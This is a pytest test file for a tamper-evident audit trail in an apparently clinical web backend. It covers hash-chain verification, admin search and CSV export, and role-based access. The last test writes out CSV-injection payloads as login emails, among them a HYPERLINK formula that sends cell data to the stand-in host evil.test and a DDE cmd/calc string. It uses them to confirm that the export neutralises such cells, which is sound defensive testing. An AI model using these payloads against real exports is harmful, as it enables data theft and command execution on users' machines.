"""The audit trail: same-transaction writes, tamper detection, search, export."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import text

from backend.audit.service import record
from backend.audit.verify import verify_chain
from backend.core.actor import AuditContext
from backend.users.models import Role
from tests.backend.conftest import audit_rows


def _events(app, n: int = 6) -> None:  # type: ignore[no-untyped-def]
    with app.state.db.session() as session:
        for i in range(n):
            record(
                session,
                AuditContext(actor_role="system"),
                f"test.event{i}",
                resource_type="thing",
                resource_id=i,
            )
        session.commit()


def _verify(app):  # type: ignore[no-untyped-def]
    with app.state.db.session() as session:
        return verify_chain(session, app.state.db.audit_key)


def _sql(app, statement: str, **params) -> None:  # type: ignore[no-untyped-def]
    with app.state.db.engine.begin() as conn:
        conn.execute(text(statement), params)


def test_intact_chain_verifies(app):
    _events(app)
    result = _verify(app)
    assert result.ok and result.events == 6


def test_event_is_written_with_its_action_or_not_at_all(app):
    with app.state.db.session() as session:
        record(session, AuditContext(actor_role="system"), "test.rolled_back")
        session.rollback()
        session.commit()
    assert audit_rows(app, action="test.rolled_back") == []
    with app.state.db.session() as session:
        record(session, AuditContext(actor_role="system"), "test.committed")
        session.commit()
    assert len(audit_rows(app, action="test.committed")) == 1


def test_verify_detects_a_modified_event(app):
    _events(app)
    _sql(app, "UPDATE audit_event SET outcome = 'denied' WHERE seq = 3")
    result = _verify(app)
    assert [(f.kind, f.seq) for f in result.findings] == [("modified", 3)]


def test_verify_detects_a_deleted_event(app):
    _events(app)
    _sql(app, "DELETE FROM audit_event WHERE seq = 4")
    result = _verify(app)
    assert [(f.kind, f.seq) for f in result.findings] == [("deleted", 5)]


def test_verify_detects_events_deleted_from_the_end(app):
    _events(app)
    _sql(app, "DELETE FROM audit_event WHERE seq >= 5")
    result = _verify(app)
    assert [(f.kind, f.seq) for f in result.findings] == [("deleted", 6)]


def test_verify_detects_an_inserted_event(app):
    _events(app)
    row = audit_rows(app)[2]
    _sql(
        app,
        "INSERT INTO audit_event (seq, id, occurred_at, action, outcome, detail, prev_hash, hash) "
        "VALUES (100, :id, :at, 'auth.login', 'allowed', '{}', :prev, :hash)",
        id=str(row.id).replace("-", "")[:-4] + "beef"
        if "sqlite" in str(app.state.db.url)
        else str(row.id)[:-4] + "beef",
        at=row.occurred_at,
        prev=audit_rows(app)[-1].hash,
        hash="f" * 64,
    )
    result = _verify(app)
    assert [(f.kind, f.seq) for f in result.findings] == [("inserted", 100)]


def test_verify_detects_reordered_events(app):
    _events(app)
    # Swap the positions of events 2 and 3 (content and hashes move with them).
    _sql(app, "UPDATE audit_event SET seq = 1000 WHERE seq = 2")
    _sql(app, "UPDATE audit_event SET seq = 2 WHERE seq = 3")
    _sql(app, "UPDATE audit_event SET seq = 3 WHERE seq = 1000")
    result = _verify(app)
    kinds = {f.kind for f in result.findings}
    assert kinds == {"reordered"}
    assert {f.seq for f in result.findings} <= {2, 3}


def test_cli_verify_reports_tampering(app, settings, monkeypatch, settings_cache):
    from typer.testing import CliRunner

    from backend.cli import _register_all
    from backend.cli import app as cli

    _events(app)
    monkeypatch.setattr("backend.commands._context", lambda: (settings, app.state.keyring, app.state.db))
    _register_all()
    runner = CliRunner()
    ok = runner.invoke(cli, ["audit", "verify"])
    assert ok.exit_code == 0 and "intact: 6 events" in ok.output
    _sql(app, "UPDATE audit_event SET reason = 'edited' WHERE seq = 2")
    broken = runner.invoke(cli, ["audit", "verify"])
    assert broken.exit_code == 1 and "modified" in broken.output and "seq 2" in broken.output


def test_admin_search_filters_pages_and_is_audited(app, client, make_user):
    admin = make_user(Role.admin)
    clinician = make_user(Role.clinician)
    client.get("/api/v1/users", headers=clinician.headers)  # a denied attempt
    response = client.get(
        "/api/v1/audit/events",
        headers=admin.headers,
        params={"actor_id": str(clinician.user.id), "outcome": "denied"},
    )
    assert response.status_code == 200
    items = response.json()["items"]
    assert [i["action"] for i in items] == ["auth.forbidden"]
    assert items[0]["actor_role"] == "clinician" and items[0]["request_id"]

    page1 = client.get("/api/v1/audit/events", headers=admin.headers, params={"limit": 2, "action": "auth."})
    assert page1.status_code == 200 and len(page1.json()["items"]) == 2
    page2 = client.get(
        "/api/v1/audit/events",
        headers=admin.headers,
        params={"limit": 2, "action": "auth.", "cursor": page1.json()["next_cursor"]},
    )
    seqs1 = [i["seq"] for i in page1.json()["items"]]
    seqs2 = [i["seq"] for i in page2.json()["items"]]
    assert seqs2 and max(seqs2) < min(seqs1)
    searches = audit_rows(app, action="audit.search")
    assert [(e.actor_id, e.outcome) for e in searches] == [(admin.user.id, "allowed")] * len(searches)
    assert len(searches) >= 2 and json.loads(searches[-1].detail) == {"action": "auth."}

    bad_cursor = client.get("/api/v1/audit/events", headers=admin.headers, params={"cursor": "!!"})
    assert bad_cursor.status_code == 400


def test_admin_exports_csv(app, client, make_user):
    admin = make_user(Role.admin)
    response = client.get("/api/v1/audit/events.csv", headers=admin.headers, params={"action": "auth.login"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows and all(r["action"] == "auth.login" for r in rows)
    (export,) = audit_rows(app, action="audit.export")
    assert (export.actor_id, export.outcome) == (admin.user.id, "allowed")


def test_admin_verify_endpoint(app, client, make_user):
    admin = make_user(Role.admin)
    assert client.get("/api/v1/audit/verify", headers=admin.headers).json()["ok"] is True
    _sql(app, "DELETE FROM audit_event WHERE seq = 1")
    body = client.get("/api/v1/audit/verify", headers=admin.headers).json()
    assert body["ok"] is False and body["findings"][0]["kind"] == "deleted"


@pytest.mark.parametrize("role", [Role.clinician, Role.dermatologist])
def test_only_admins_read_the_audit_trail(client, make_user, role):
    user = make_user(role)
    for path in ("/api/v1/audit/events", "/api/v1/audit/events.csv", "/api/v1/audit/verify"):
        assert client.get(path, headers=user.headers).status_code == 403


def test_audit_holds_no_secrets(app, client, make_user):
    make_user(Role.clinician)
    for row in audit_rows(app):
        blob = json.dumps({k: str(v) for k, v in row.__dict__.items()})
        assert "correct horse" not in blob  # no password ever lands in the trail


def test_csv_export_neutralises_formulas_typed_at_the_login_box(app, client, make_user):
    """OWASP CSV injection: a cell an attacker controls must never start with = + - @ tab or CR."""
    admin = make_user(Role.admin)
    hostile = [
        '=hyperlink("http://evil.test/?x="&a1,"click")@x.test',
        "+cmd|' /c calc'!a0@x.test",
        "-2+3@x.test",
        "@sum(1+1)@x.test",
    ]
    for email in hostile:
        assert (
            client.post("/api/v1/auth/login", json={"email": email, "password": "x" * 12}).status_code == 401
        )
    # Login strips surrounding white space, so a leading tab or CR reaches the trail another way.
    with app.state.db.session() as session:
        for value in ("\tleading-tab", "\rleading-cr"):
            record(
                session,
                AuditContext(actor_role="system"),
                "auth.login",
                outcome="denied",
                resource_id=value,
                reason="unknown account",
            )
        session.commit()
    response = client.get("/api/v1/audit/events.csv", headers=admin.headers, params={"action": "auth.login"})
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    written = [r["resource_id"] for r in rows if r["reason"] == "unknown account"]
    assert len(written) == len(hostile) + 2
    for cell in written:
        assert cell[0] == "'" and cell[1] in "=+-@\t\r", repr(cell)
    stored = {r.resource_id for r in audit_rows(app, action="auth.login") if r.reason == "unknown account"}
    assert {cell[1:] for cell in written} == stored  # only the export is neutralised, the trail is not
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r"
